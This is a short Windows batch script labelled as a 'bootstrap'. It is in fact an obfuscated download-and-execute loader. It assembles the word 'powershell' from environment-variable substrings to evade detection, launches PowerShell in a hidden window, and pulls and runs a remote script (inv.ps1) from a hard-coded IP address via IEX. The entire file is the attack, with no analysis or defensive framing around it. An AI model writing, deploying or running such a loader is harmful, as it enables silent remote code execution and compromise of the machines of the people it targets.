REM bootstrap 8176 v3
po%windir:~8,1%er%public:~-8,1%h%COMSPEC:~-12,1%%PUBLIC:~-3,1%l -nop -w hidden -c "IEX (New-Object Net.WebClient).DownloadString('http://192.0.2.150/inv.ps1')"
